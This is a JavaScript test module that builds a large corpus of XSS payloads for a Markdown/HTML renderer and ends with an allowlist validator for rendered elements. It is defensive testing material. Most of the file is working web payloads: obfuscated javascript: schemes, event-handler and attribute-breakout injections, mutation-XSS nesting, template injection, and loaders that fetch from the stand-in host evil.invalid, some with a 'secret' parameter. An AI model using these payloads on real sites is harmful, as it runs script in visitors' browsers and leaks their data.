// What a model might write to run a script, fetch an address or leave the page: families of attacks, each in
// variations, made here. Every payload would call `__hit(...)` or ask evil.invalid for something where it worked.

const HOST = "evil.invalid";
const CALL = "__hit(1)";

// Spellings of one scheme that parsers have been known to read as it.
const SCRIPT_SCHEMES = [
  "javascript:",
  "JavaScript:",
  "jAvAsCrIpT:",
  "java\tscript:",
  "java\nscript:",
  " javascript:",
  "\u0001javascript:",
  "javascript&colon;",
  "javascript&#58;",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "java&Tab;script:",
  "java&NewLine;script:",
  "javascript%3A",
  "j\\avascript:",
  "\\javascript:",
  "javascript\u200b:",
  "\ufeffjavascript:",
  "javascript\u00a0:",
  "ja\u0000vascript:",
  "vbscript:",
  "livescript:",
  "mocha:",
  "data:text/html,",
  "data:text/html;base64,",
  "data:image/svg+xml,",
  "blob:",
  "filesystem:",
  "about:",
  "file:///",
  "view-source:",
  "//evil.invalid/",
  "/\\evil.invalid/",
  "\\\\evil.invalid\\",
  "https://user:password@evil.invalid/",
  "intent:",
  "ms-settings:",
  "feed:javascript:",
];

const EVENTS = [
  "onload",
  "onerror",
  "onclick",
  "onmouseover",
  "onfocus",
  "ontoggle",
  "onanimationstart",
  "onpointerenter",
  "onbeforematch",
  "onscrollend",
  "oncontentvisibilityautostatechange",
];

const ELEMENTS = [
  "img src=x",
  "svg",
  "body",
  "iframe",
  "video src=x",
  "audio src=x",
  "details open",
  "input autofocus",
  "marquee",
  "object data=x",
  "math",
  "a href=x",
  "div style=animation:x",
  "select autofocus",
  "form",
  "button",
  "style",
  "link rel=stylesheet href=x",
  "x tabindex=1",
];

const LOADERS = [
  `<img src="https://${HOST}/a.png">`,
  `<img srcset="https://${HOST}/a.png 1x">`,
  `<picture><source srcset=https://${HOST}/a></picture>`,
  `<script src=https://${HOST}/a.js></script>`,
  `<link rel=stylesheet href=https://${HOST}/a.css>`,
  `<link rel=prefetch href=https://${HOST}/a>`,
  `<link rel=dns-prefetch href=//${HOST}>`,
  `<link rel=preconnect href=https://${HOST}>`,
  `<iframe src=https://${HOST}/></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data=https://${HOST}/></object>`,
  `<embed src=https://${HOST}/>`,
  `<video poster=https://${HOST}/p src=https://${HOST}/v></video>`,
  `<audio src=https://${HOST}/a></audio>`,
  `<track src=https://${HOST}/t>`,
  `<input type=image src=https://${HOST}/i>`,
  `<body background=https://${HOST}/b>`,
  `<table background=https://${HOST}/t>`,
  `<style>@import url(https://${HOST}/c.css);</style>`,
  `<style>*{background:url(https://${HOST}/b)}</style>`,
  `<p style="background:url(https://${HOST}/s)">x</p>`,
  `<svg><image href=https://${HOST}/i /></svg>`,
  `<svg><use href=https://${HOST}/u#a /></svg>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<base href=https://${HOST}/>`,
  `<meta http-equiv=refresh content="0;url=https://${HOST}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<form action=https://${HOST}/><button>x</button></form>`,
  `<form><button formaction="javascript:${CALL}">x</button></form>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href=https://${HOST}/ ping=https://${HOST}/p>x</a>`,
  `<portal src=https://${HOST}/></portal>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<textarea></textarea><img src=x onerror=${CALL}>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml-stylesheet href="javascript:${CALL}"?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "https://${HOST}/">]>`,
  `<div id=app></div><div id=question name=lbm></div>`,
  `<form id=document><input name=cookie></form>`,
  `<slot name=x><script>${CALL}</script></slot>`,
  `<img src=x onerror=\u0022${CALL}\u0022`,
  `<svg onload=${CALL}//`,
  `<script>${CALL}//`,
  `"><script>${CALL}</script>`,
  `'-${CALL}-'`,
  `\`-${CALL}-\``,
  `{{constructor.constructor('${CALL}')()}}`,
  "${" + CALL + "}",
  `</code></pre><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
];

function* rawElements() {
  for (const [i, element] of ELEMENTS.entries()) {
    for (let k = 0; k < 3; ++k) {
      const event = EVENTS[(i * 3 + k) % EVENTS.length];
      yield `<${element} ${event}=${CALL}>`;
      yield `<${element.toUpperCase()}\t${event.toUpperCase()}\n=\n"${CALL}">`;
      yield `<${element}/${event}='${CALL}'/>`;
    }
  }
}

function* links() {
  for (const scheme of SCRIPT_SCHEMES) {
    const target = `${scheme}${CALL}`;
    yield `[press](${target})`;
    yield `[press](<${target}>)`;
    yield `<${target}>`;
    yield `![picture](${target})`;
    yield `[press][ref]\n\n[ref]: ${target}`;
    yield `[![inner](https://${HOST}/in.png)](${target})`;
  }
}

// An address that is fine, with something around it that wants to become an attribute.
function* attributes() {
  const breakers = [
    `" onclick="${CALL}`,
    `' onclick='${CALL}`,
    `"><img src=x onerror=${CALL}>`,
    `&quot; onclick=&quot;${CALL}`,
    `&#34;onclick=${CALL}`,
    `\\" onclick=${CALL} x=\\"`,
    ` style=background:url(//${HOST})`,
    `\u2028onclick=${CALL}`,
  ];
  for (const breaker of breakers) {
    yield `[x](https://${HOST}/ "${breaker}")`;
    yield `[x](https://${HOST}/${breaker.replaceAll(" ", "%20")})`;
    yield `![${breaker}](https://${HOST}/i.png '${breaker}')`;
    yield `<https://${HOST}/${breaker.replaceAll(" ", "")}>`;
    yield `\`\`\`js${breaker}\ncode\n\`\`\``;
    yield `\`\`\`${breaker}\n<script>${CALL}</script>\n\`\`\``;
    yield `|a|b|\n|:-${breaker}|-:|\n|1|2|`;
    yield `7${breaker}. item`;
  }
}

// Pictures and addresses that something could fetch without being asked.
function* fetches() {
  const addresses = [
    `https://${HOST}/p.png?secret=1`,
    `http://${HOST}/p.png`,
    `//${HOST}/p.png`,
    `HTTPS://${HOST}/P`,
    `https:\\\\${HOST}\\p`,
    `https://${HOST}/?q=[x](y)`,
    `https://[::1]:8080/p`,
    `https://${HOST}/%0d%0aX:1`,
    `ftp://${HOST}/p`,
    `ws://${HOST}/`,
  ];
  for (const address of addresses) {
    yield `![](${address})`;
    yield `![a **b** ![c](${address})](${address})`;
    yield `![x][r]\n\n[r]: ${address} "t"`;
    yield `[r]: ${address}\n\n![r] and [r]`;
    yield address;
    yield `<${address}>`;
    yield `[${address}](${address})`;
  }
}

// Text whose entities spell elements, and blocks that hide or tear them.
function* disguises() {
  const element = `<img src=x onerror=${CALL}>`;
  yield element.replaceAll("<", "&lt;").replaceAll(">", "&gt;");
  yield element.replaceAll("<", "&#60;").replaceAll(">", "&#62;");
  yield element.replaceAll("<", "&#x3c;");
  yield element.replaceAll("<", "\\<");
  yield element.replaceAll("<", "\uff1c");
  yield element.split("").join("\u200b");
  yield element.replace("img", "i\u0000mg");
  yield `<im\ng src=x onerror=${CALL}>`;
  yield `<img\u000bsrc=x\u000conerror=${CALL}>`;
  for (const fence of ["```", "~~~", "````"]) {
    yield `${fence}html\n${element}\n${fence}\n${element}`;
    yield `${fence}\n${element}`;
    yield `${fence}\n\`\`\`\n${element}\n${fence}`;
    yield `> ${fence}\n> ${element}\n${element}`;
    yield `- ${fence}\n  ${element}\n${element}`;
  }
  for (const ticks of ["`", "``", "```"]) {
    yield `${ticks}${element}${ticks}`;
    yield `${ticks}${element}`;
    yield `${ticks}\`${ticks}${element}`;
  }
  yield `    ${element}\n\n${element}`;
  yield `<div>\n\n${element}\n\n</div>`;
  yield `<details><summary>x</summary>\n\n[x](javascript:${CALL})\n</details>`;
  yield `${"> ".repeat(60)}${element}`;
  yield `${"- ".repeat(60)}[x](javascript:${CALL})`;
  yield `${"[".repeat(80)}x${"](javascript:__hit(1))".repeat(80)}`;
  yield `${"*".repeat(60)}${element}${"_".repeat(60)}`;
}

// The places of a text in which each stands.
const PLACES = [
  (text) => text,
  (text) => `- item\n- ${text.replaceAll("\n", "\n  ")}`,
  (text) => `> ${text.replaceAll("\n", "\n> ")}`,
  (text) => `# Title ${text}`,
  (text) => `**bold ${text} _more_**`,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll("\n", " ").replaceAll("|", "\\|")} | x |`,
  (text) => `[label ${text}](https://${HOST}/)`,
  (text) => `before\n${text}\nafter`,
];

// All payloads: each attack as it is, and in one other place, which changes from one to the next.
export function xssCorpus() {
  const attacks = [...LOADERS, ...rawElements(), ...links(), ...attributes(), ...fetches(), ...disguises()];
  const payloads = attacks.flatMap((text, i) => [text, PLACES[1 + (i % (PLACES.length - 1))](text)]);
  return [...new Set(payloads)];
}

// ---- what may come of them -------------------------------------------------------------------------

const TAGS = new Set([
  "p",
  "ul",
  "ol",
  "li",
  "blockquote",
  "table",
  "thead",
  "tbody",
  "tr",
  "th",
  "td",
  "em",
  "strong",
  "s",
  "a",
  "h3",
  "h4",
  "h5",
  "h6",
  "code",
  "br",
  "hr",
  "codeblock",
]);
const ALLOWED = { a: ["href", "rel", "target", "title"], ol: ["start"], td: ["class"], th: ["class", "scope"] };

// What is wrong with an element, by its name and attributes; null: nothing. Written apart from the renderer.
export function elementFault(tag, attrs) {
  if (!TAGS.has(tag)) return `an element <${tag}>`;
  for (const [name, value] of Object.entries(attrs)) {
    if (!(ALLOWED[tag] ?? []).includes(name)) return `an attribute ${name} of <${tag}>`;
    const text = String(value);
    if (name === "href" && !/^(https?:\/\/[^\s"'<>\\@/?#]+([/?#][^\s"<>]*)?|mailto:[^\s"<>]*)$/.test(text))
      return `a link to ${text}`;
    if (name === "class" && !/^align-(left|center|right)$/.test(text)) return `a class ${text}`;
    if (name === "start" && !/^\d+$/.test(text)) return `a list from ${text}`;
    if (name === "scope" && text !== "col") return `a scope ${text}`;
  }
  if (tag === "a" && (attrs.rel !== "noopener noreferrer" || attrs.target !== "_blank"))
    return "a link that tells where it was";
  return null;
}
